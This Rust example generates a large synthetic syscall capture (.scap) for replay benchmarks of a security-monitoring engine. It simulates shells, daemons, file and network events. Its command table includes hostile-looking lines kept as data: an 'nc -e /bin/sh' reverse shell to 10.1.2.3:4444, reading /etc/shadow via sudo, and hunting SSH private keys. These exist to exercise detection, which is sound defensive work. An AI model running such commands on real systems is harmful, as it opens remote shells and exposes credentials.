//! Writes a large, realistic, deterministic `.scap` capture for replay benchmarks.
//!
//! ```text
//! cargo run -p falcod-probe --example make_capture -- OUT.scap [EVENTS] [--seed N] [--gzip]
//! ```
//!
//! The capture holds a process table (init, system daemons, an ssh session with a shell, a web
//! server and its workers) with their open fds, then about EVENTS events (default 1,000,000)
//! of a busy workload: shells spawning commands (clone in parent and child, execve, the
//! command's file activity, procexit), file opens, reads, writes and closes inside and outside
//! sensitive directories, outbound connections, dups. Enter and exit events come in pairs as
//! the driver writes them, with consistent thread ids and fd numbers. Event layouts are those
//! of the driver generation libsinsp 0.29 knows (execve 19, clone 20, openat 2, procexit 1),
//! with the parameter counts its event table lists.

use std::error::Error;
use std::net::Ipv4Addr;

use falcod_probe::scap::{
    Compression, EventRecord, FdDetail, FdInfo, GroupInfo, Interface, InterfaceAddr, MachineInfo,
    ProcInfo, UserInfo, UserList, Writer,
};

// Event codes (driver `ppm_event_code`).
const OPEN_E: u16 = 2;
const OPEN_X: u16 = 3;
const CLOSE_E: u16 = 4;
const CLOSE_X: u16 = 5;
const READ_E: u16 = 6;
const READ_X: u16 = 7;
const WRITE_E: u16 = 8;
const WRITE_X: u16 = 9;
const SOCKET_E: u16 = 18;
const SOCKET_X: u16 = 19;
const CONNECT_E: u16 = 22;
const CONNECT_X: u16 = 23;
const DUP_E: u16 = 124;
const DUP_X: u16 = 125;
const PROCEXIT_1_E: u16 = 186;
const CLONE_20_E: u16 = 222;
const CLONE_20_X: u16 = 223;
const EXECVE_19_E: u16 = 292;
const EXECVE_19_X: u16 = 293;
const UNLINKAT_2_E: u16 = 302;
const UNLINKAT_2_X: u16 = 303;
const OPENAT_2_E: u16 = 306;
const OPENAT_2_X: u16 = 307;

// Driver flag values (`PPM_*`).
const O_RDONLY: u32 = 1;
const O_WRONLY: u32 = 2;
const O_CREAT: u32 = 4;
const O_APPEND: u32 = 8;
const O_TRUNC: u32 = 1 << 8;
const O_CLOEXEC: u32 = 1 << 12;
const AT_FDCWD: i64 = -100;
const AF_INET: u8 = 2;

/// A small deterministic generator (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
}

/// A live process of the simulated machine (single-threaded: tid == pid).
#[derive(Clone)]
struct Proc {
    pid: u64,
    ppid: u64,
    comm: String,
    exe: String,
    args: Vec<String>,
    cwd: String,
    uid: u32,
    /// Open fds beyond 0..=2.
    fds: Vec<i64>,
}

impl Proc {
    fn lowest_free_fd(&self) -> i64 {
        (3..).find(|fd| !self.fds.contains(fd)).unwrap_or(3)
    }
}

/// A program the shells run: exe path, argv, files it opens for reading, files it writes.
type Command = (
    &'static str,
    &'static [&'static str],
    &'static [&'static str],
    &'static [&'static str],
);

const COMMANDS: &[Command] = &[
    (
        "/usr/bin/ls",
        &["ls", "-la"],
        &["/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6"],
        &[],
    ),
    (
        "/usr/bin/cat",
        &["cat", "/var/log/syslog"],
        &["/etc/ld.so.cache", "/var/log/syslog"],
        &[],
    ),
    (
        "/usr/bin/grep",
        &["grep", "-r", "error", "/var/log"],
        &["/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log"],
        &[],
    ),
    (
        "/usr/bin/python3",
        &["python3", "/opt/app/report.py"],
        &["/opt/app/report.py", "/usr/lib/python3.11/os.py"],
        &["/tmp/report.txt"],
    ),
    (
        "/usr/bin/curl",
        &["curl", "-s", "https://example.com"],
        &["/etc/ssl/certs/ca-certificates.crt", "/etc/resolv.conf"],
        &[],
    ),
    (
        "/usr/bin/tar",
        &["tar", "czf", "/tmp/backup.tgz", "/home/alice"],
        &["/home/alice/notes.txt", "/home/alice/.bashrc"],
        &["/tmp/backup.tgz"],
    ),
    (
        "/usr/bin/vi",
        &["vi", "/etc/hosts"],
        &["/etc/hosts"],
        &["/etc/hosts"],
    ),
    (
        "/usr/bin/sudo",
        &["sudo", "cat", "/etc/shadow"],
        &["/etc/sudoers", "/etc/shadow", "/etc/pam.conf"],
        &[],
    ),
    (
        "/usr/bin/find",
        &["find", "/", "-name", "id_rsa"],
        &["/root/.ssh/id_rsa", "/home/alice/.ssh/authorized_keys"],
        &[],
    ),
    (
        "/usr/bin/nc",
        &["nc", "-e", "/bin/sh", "10.1.2.3", "4444"],
        &[],
        &[],
    ),
    (
        "/usr/bin/touch",
        &["touch", "/usr/bin/evil"],
        &[],
        &["/usr/bin/evil"],
    ),
];

/// Files daemons and workers touch: mostly ordinary, a few sensitive ones.
const READ_FILES: &[&str] = &[
    "/var/www/html/index.html",
    "/var/www/html/style.css",
    "/var/www/html/app.js",
    "/proc/self/stat",
    "/proc/meminfo",
    "/usr/share/zoneinfo/UTC",
    "/etc/nginx/nginx.conf",
    "/etc/passwd",
    "/etc/group",
    "/etc/hosts",
];
const SENSITIVE_FILES: &[&str] = &["/etc/shadow", "/etc/sudoers", "/etc/pam.conf"];
const WRITE_FILES: &[&str] = &[
    "/var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/var/lib/app/state.db",
    "/tmp/cache.bin",
];

/// A process alive at capture start: pid, ppid, exe, argv, cwd, uid.
type InitialProc = (
    u64,
    u64,
    &'static str,
    &'static [&'static str],
    &'static str,
    u32,
);

struct Gen {
    w: Writer<falcod_probe::scap::CaptureFile>,
    rng: Rng,
    ts: u64,
    next_pid: u64,
    target: u64,
}

fn i64b(v: i64) -> Vec<u8> {
    v.to_le_bytes().to_vec()
}
fn u64b(v: u64) -> Vec<u8> {
    v.to_le_bytes().to_vec()
}
fn u32b(v: u32) -> Vec<u8> {
    v.to_le_bytes().to_vec()
}
fn cstr(s: &str) -> Vec<u8> {
    let mut v = s.as_bytes().to_vec();
    v.push(0);
    v
}
/// NUL-terminated strings back to back, as args/env/cgroups are stored.
fn strs<S: AsRef<str>>(items: &[S]) -> Vec<u8> {
    items.iter().flat_map(|s| cstr(s.as_ref())).collect()
}

impl Gen {
    fn done(&self) -> bool {
        self.w.events_written() >= self.target
    }

    fn emit(&mut self, tid: u64, ty: u16, params: &[Vec<u8>]) -> Result<(), Box<dyn Error>> {
        self.ts += 1_000 + self.rng.below(20_000);
        let refs: Vec<&[u8]> = params.iter().map(Vec::as_slice).collect();
        let cpu = (self.rng.below(2)) as u16;
        self.w.write_event(&EventRecord {
            ts: self.ts,
            tid,
            cpu,
            flags: None,
            event_type: ty,
            params: &refs,
        })?;
        Ok(())
    }

    fn open(&mut self, p: &mut Proc, path: &str, flags: u32) -> Result<i64, Box<dyn Error>> {
        let fd = p.lowest_free_fd();
        let mode = if flags & O_CREAT != 0 { 0o644 } else { 0 };
        if self.rng.chance(50) {
            let common = [cstr(path), u32b(flags), u32b(mode)];
            self.emit(
                p.pid,
                OPENAT_2_E,
                &[&[i64b(AT_FDCWD)], &common[..]].concat(),
            )?;
            let exit = [
                i64b(fd),
                i64b(AT_FDCWD),
                cstr(path),
                u32b(flags),
                u32b(mode),
            ];
            self.emit(p.pid, OPENAT_2_X, &[&exit[..], &[u32b(0x803)]].concat())?;
        } else {
            self.emit(p.pid, OPEN_E, &[cstr(path), u32b(flags), u32b(mode)])?;
            let exit = [i64b(fd), cstr(path), u32b(flags), u32b(mode), u32b(0x803)];
            self.emit(p.pid, OPEN_X, &exit)?;
        }
        p.fds.push(fd);
        Ok(fd)
    }

    fn close(&mut self, p: &mut Proc, fd: i64) -> Result<(), Box<dyn Error>> {
        self.emit(p.pid, CLOSE_E, &[i64b(fd)])?;
        self.emit(p.pid, CLOSE_X, &[i64b(0)])?;
        p.fds.retain(|&f| f != fd);
        Ok(())
    }

    fn io(&mut self, p: &Proc, fd: i64, write: bool) -> Result<(), Box<dyn Error>> {
        let size = 64 + self.rng.below(4032) as u32;
        let (enter, exit) = if write {
            (WRITE_E, WRITE_X)
        } else {
            (READ_E, READ_X)
        };
        self.emit(p.pid, enter, &[i64b(fd), u32b(size)])?;
        let data: Vec<u8> = (0..size.min(80))
            .map(|i| b"GET /index.html HTTP/1.1 Host: example.com "[i as usize % 42])
            .collect();
        self.emit(p.pid, exit, &[i64b(i64::from(size)), data])
    }

    /// Open a file, read or write it a few times, close it.
    fn file_activity(&mut self, p: &mut Proc) -> Result<(), Box<dyn Error>> {
        let roll = self.rng.below(100);
        let (path, write) = if roll < 3 {
            (*self.rng.pick(SENSITIVE_FILES), false)
        } else if roll < 35 {
            (*self.rng.pick(WRITE_FILES), true)
        } else {
            (*self.rng.pick(READ_FILES), false)
        };
        let flags = if write {
            O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC
        } else {
            O_RDONLY | O_CLOEXEC
        };
        let fd = self.open(p, path, flags)?;
        for _ in 0..1 + self.rng.below(6) {
            self.io(p, fd, write)?;
        }
        self.close(p, fd)
    }

    fn connect(&mut self, p: &mut Proc) -> Result<(), Box<dyn Error>> {
        let fd = p.lowest_free_fd();
        self.emit(
            p.pid,
            SOCKET_E,
            &[u32b(u32::from(AF_INET)), u32b(1), u32b(0)],
        )?;
        self.emit(p.pid, SOCKET_X, &[i64b(fd)])?;
        p.fds.push(fd);
        let (dip, dport) = *self.rng.pick(&[
            (Ipv4Addr::new(10, 0, 0, 5), 5432u16),
            (Ipv4Addr::new(10, 0, 0, 7), 6379),
            (Ipv4Addr::new(93, 184, 216, 34), 443),
            (Ipv4Addr::new(127, 0, 0, 1), 8080),
        ]);
        let sport = 32768 + self.rng.below(28000) as u16;
        let sip = Ipv4Addr::new(10, 0, 0, 2);
        let addr = [&[AF_INET][..], &dip.octets(), &dport.to_le_bytes()].concat();
        self.emit(p.pid, CONNECT_E, &[i64b(fd), addr])?;
        let tuple = [
            &[AF_INET][..],
            &sip.octets(),
            &sport.to_le_bytes(),
            &dip.octets(),
            &dport.to_le_bytes(),
        ]
        .concat();
        self.emit(p.pid, CONNECT_X, &[i64b(0), tuple])?;
        for i in 0..1 + self.rng.below(4) {
            self.io(p, fd, i % 2 == 0)?;
        }
        if self.rng.chance(20) {
            let dup = p.lowest_free_fd();
            self.emit(p.pid, DUP_E, &[i64b(fd)])?;
            self.emit(p.pid, DUP_X, &[i64b(dup)])?;
            p.fds.push(dup);
            self.io(p, dup, true)?;
            self.close(p, dup)?;
        }
        self.close(p, fd)
    }

    fn clone_params(&self, res: i64, p: &Proc, tid: u64, ptid: u64) -> Vec<Vec<u8>> {
        vec![
            i64b(res),
            cstr(&p.exe),
            strs(&p.args[1..]),
            u64b(tid),
            u64b(tid),
            u64b(ptid),
            cstr(&p.cwd),
            i64b(1024),
            u64b(0),
            u64b(120),
            u32b(8_000),
            u32b(2_000),
            u32b(0),
            cstr(&p.comm),
            strs(&["cpu=/user.slice", "memory=/user.slice"]),
            u32b(0),
            u32b(p.uid),
            u32b(p.uid),
            u64b(tid),
            u64b(tid),
        ]
    }

    /// `parent` forks a child that execs a command, does its work and exits.
    fn spawn(&mut self, parent: &mut Proc) -> Result<(), Box<dyn Error>> {
        let (exe, argv, reads, writes) = *self.rng.pick(COMMANDS);
        let child_pid = self.next_pid;
        self.next_pid += 1 + self.rng.below(3);
        self.emit(parent.pid, CLONE_20_E, &[])?;
        let parent_params = self.clone_params(child_pid as i64, parent, parent.pid, parent.ppid);
        self.emit(parent.pid, CLONE_20_X, &parent_params)?;
        let mut child = Proc {
            pid: child_pid,
            ppid: parent.pid,
            fds: parent.fds.clone(),
            ..parent.clone()
        };
        let child_params = self.clone_params(0, &child, child_pid, parent.pid);
        self.emit(child_pid, CLONE_20_X, &child_params)?;
        // A shell forked for `sh -c` sometimes runs the command through a second level.
        self.emit(child_pid, EXECVE_19_E, &[cstr(exe)])?;
        child.exe = argv[0].to_string();
        child.args = argv.iter().map(|s| s.to_string()).collect();
        child.comm = argv[0].to_string();
        let exec = vec![
            i64b(0),
            cstr(&child.exe),
            strs(&child.args[1..]),
            u64b(child_pid),
            u64b(child_pid),
            u64b(parent.pid),
            cstr(&child.cwd),
            u64b(1024),
            u64b(0),
            u64b(90),
            u32b(9_000),
            u32b(2_500),
            u32b(0),
            cstr(&child.comm),
            strs(&["cpu=/user.slice", "memory=/user.slice"]),
            strs(&["PATH=/usr/bin:/bin", "HOME=/home/alice", "TERM=xterm"]),
            u32b(34816),
            u64b(parent.pid),
            u32b(1000),
            u32b(0),
        ];
        self.emit(child_pid, EXECVE_19_X, &exec)?;
        for path in reads {
            let fd = self.open(&mut child, path, O_RDONLY | O_CLOEXEC)?;
            self.io(&child, fd, false)?;
            self.close(&mut child, fd)?;
        }
        for path in writes {
            let fd = self.open(&mut child, path, O_WRONLY | O_CREAT | O_TRUNC)?;
            self.io(&child, fd, true)?;
            self.close(&mut child, fd)?;
        }
        if exe.ends_with("/curl") || exe.ends_with("/nc") {
            self.connect(&mut child)?;
        }
        if exe.ends_with("/python3") {
            self.emit(child_pid, UNLINKAT_2_E, &[])?;
            let params = [i64b(0), i64b(AT_FDCWD), cstr("/tmp/report.old"), u32b(0)];
            self.emit(child_pid, UNLINKAT_2_X, &params)?;
        }
        self.emit(
            child_pid,
            PROCEXIT_1_E,
            &[i64b(0), i64b(0), vec![0], vec![0]],
        )
    }

    fn step(&mut self, procs: &mut [Proc]) -> Result<(), Box<dyn Error>> {
        let i = self.rng.below(procs.len() as u64) as usize;
        let mut p = procs[i].clone();
        let shell = p.comm == "bash";
        let roll = self.rng.below(100);
        match roll {
            0..=14 if shell => self.spawn(&mut p)?,
            0..=4 => self.spawn(&mut p)?,
            15..=54 => self.file_activity(&mut p)?,
            55..=69 => self.connect(&mut p)?,
            _ => {
                let fd = *self.rng.pick(&[0i64, 1, 2]);
                self.io(&p, fd, fd != 0)?;
            }
        }
        procs[i] = p;
        Ok(())
    }
}

fn proc_info(pid: u64, ppid: u64, exe: &str, args: &[&str], cwd: &str, uid: u32) -> ProcInfo {
    let comm = exe.rsplit('/').next().unwrap_or(exe).to_string();
    ProcInfo {
        tid: pid,
        pid,
        ptid: ppid,
        sid: 1,
        vpgid: pid as i64,
        pgid: -1,
        comm,
        exe: args.first().copied().unwrap_or(exe).to_string(),
        exepath: exe.to_string(),
        args: strs(args.get(1..).unwrap_or_default()),
        cwd: cwd.to_string(),
        fdlimit: 1024,
        uid,
        gid: uid,
        vmsize_kb: 10_000,
        vmrss_kb: 3_000,
        env: strs(&["PATH=/usr/bin:/bin", "LANG=C.UTF-8"]),
        vtid: pid as i64,
        vpid: pid as i64,
        cgroups: strs(&["cpu=/system.slice", "memory=/system.slice"]),
        root: "/".into(),
        loginuid: if uid == 0 { u32::MAX } else { uid },
        ..ProcInfo::default()
    }
}

fn run() -> Result<(), Box<dyn Error>> {
    let mut args = std::env::args().skip(1);
    let mut out = None;
    let mut target = 1_000_000u64;
    let mut seed = 0x5eed_f00d_u64;
    let mut compression = Compression::None;
    while let Some(a) = args.next() {
        match a.as_str() {
            "--gzip" => compression = Compression::Gzip,
            "--seed" => seed = args.next().ok_or("--seed needs a value")?.parse()?,
            _ if out.is_none() => out = Some(a),
            _ => target = a.parse()?,
        }
    }
    let out = out.ok_or("usage: make_capture OUT.scap [EVENTS] [--seed N] [--gzip]")?;

    let table: &[InitialProc] = &[
        (1, 0, "/usr/lib/systemd/systemd", &["/sbin/init"], "/", 0),
        (420, 1, "/usr/sbin/cron", &["/usr/sbin/cron", "-f"], "/", 0),
        (
            510,
            1,
            "/usr/sbin/sshd",
            &["sshd: /usr/sbin/sshd -D"],
            "/",
            0,
        ),
        (
            600,
            1,
            "/usr/sbin/nginx",
            &["nginx", "-g", "daemon off;"],
            "/",
            0,
        ),
        (
            601,
            600,
            "/usr/sbin/nginx",
            &["nginx: worker process"],
            "/",
            33,
        ),
        (
            602,
            600,
            "/usr/sbin/nginx",
            &["nginx: worker process"],
            "/",
            33,
        ),
        (
            700,
            1,
            "/usr/bin/python3",
            &["python3", "/opt/app/server.py"],
            "/opt/app",
            1001,
        ),
        (
            710,
            1,
            "/usr/lib/postgresql/15/bin/postgres",
            &["postgres"],
            "/var/lib/postgresql",
            105,
        ),
        (
            1200,
            510,
            "/usr/sbin/sshd",
            &["sshd: alice@pts/0"],
            "/",
            1000,
        ),
        (1201, 1200, "/usr/bin/bash", &["-bash"], "/home/alice", 1000),
        (1300, 510, "/usr/sbin/sshd", &["sshd: root@pts/1"], "/", 0),
        (1301, 1300, "/usr/bin/bash", &["-bash"], "/root", 0),
    ];
    let mut procs = Vec::new();
    let mut infos = Vec::new();
    for &(pid, ppid, exe, argv, cwd, uid) in table {
        let info = proc_info(pid, ppid, exe, argv, cwd, uid);
        procs.push(Proc {
            pid,
            ppid,
            comm: info.comm.clone(),
            exe: info.exe.clone(),
            args: argv.iter().map(|s| s.to_string()).collect(),
            cwd: cwd.to_string(),
            uid,
            fds: Vec::new(),
        });
        infos.push(info);
    }
    // The shells are what users run; give them more weight by listing them again.
    for i in [9, 11, 9, 11] {
        procs.push(procs[i].clone());
    }

    let mut w = Writer::create(&out, compression)?;
    w.write_section()?;
    w.write_machine_info(&MachineInfo {
        num_cpus: 2,
        memory_size_bytes: 8 << 30,
        max_pid: 4_194_304,
        hostname: "bench-host".into(),
        boot_ts_epoch: 1_700_000_000_000_000_000,
        flags: 0,
    })?;
    w.write_interfaces(&[
        Interface {
            name: "lo".into(),
            addr: InterfaceAddr::V4(
                Ipv4Addr::LOCALHOST,
                Ipv4Addr::new(255, 0, 0, 0),
                Ipv4Addr::LOCALHOST,
            ),
            linkspeed: 0,
        },
        Interface {
            name: "eth0".into(),
            addr: InterfaceAddr::V4(
                Ipv4Addr::new(10, 0, 0, 2),
                Ipv4Addr::new(255, 255, 255, 0),
                Ipv4Addr::new(10, 0, 0, 255),
            ),
            linkspeed: 1000,
        },
    ])?;
    let user = |uid, name: &str, home: &str| UserInfo {
        uid,
        gid: uid,
        name: name.into(),
        homedir: home.into(),
        shell: "/bin/bash".into(),
    };
    let group = |gid, name: &str| GroupInfo {
        gid,
        name: name.into(),
    };
    w.write_users(&UserList {
        users: vec![
            user(0, "root", "/root"),
            user(33, "www-data", "/var/www"),
            user(105, "postgres", "/var/lib/postgresql"),
            user(1000, "alice", "/home/alice"),
            user(1001, "app", "/opt/app"),
        ],
        groups: vec![
            group(0, "root"),
            group(33, "www-data"),
            group(105, "postgres"),
            group(1000, "alice"),
            group(1001, "app"),
        ],
    })?;
    w.write_processes(&infos)?;
    for info in &infos {
        let tty = if info.comm == "bash" {
            "/dev/pts/0"
        } else {
            "/dev/null"
        };
        let mut fds: Vec<FdInfo> = (0..3)
            .map(|fd| FdInfo {
                fd,
                ino: 3 + fd as u64,
                fd_type: 16,
                detail: FdDetail::File {
                    open_flags: O_RDONLY | O_WRONLY,
                    name: tty.into(),
                    dev: Some(0x16),
                },
            })
            .collect();
        if info.comm == "nginx" {
            fds.push(FdInfo {
                fd: 6,
                ino: 9000 + info.pid,
                fd_type: 5,
                detail: FdDetail::Ipv4Server {
                    ip: Ipv4Addr::UNSPECIFIED,
                    port: 80,
                    l4proto: 3,
                },
            });
        }
        w.write_fds(info.tid, &fds)?;
    }
    let mut gen = Gen {
        w,
        rng: Rng(seed | 1),
        ts: 1_700_000_100_000_000_000,
        next_pid: 20_000,
        target,
    };
    // The listener fd 6 of nginx is known from the table; never reuse it.
    for p in procs.iter_mut().filter(|p| p.comm == "nginx") {
        p.fds.push(6);
    }
    while !gen.done() {
        gen.step(&mut procs)?;
    }
    let events = gen.w.events_written();
    gen.w.close()?;
    eprintln!("wrote {events} events to {out}");
    Ok(())
}

fn main() {
    if let Err(e) = run() {
        eprintln!("make_capture: {e}");
        std::process::exit(1);
    }
}
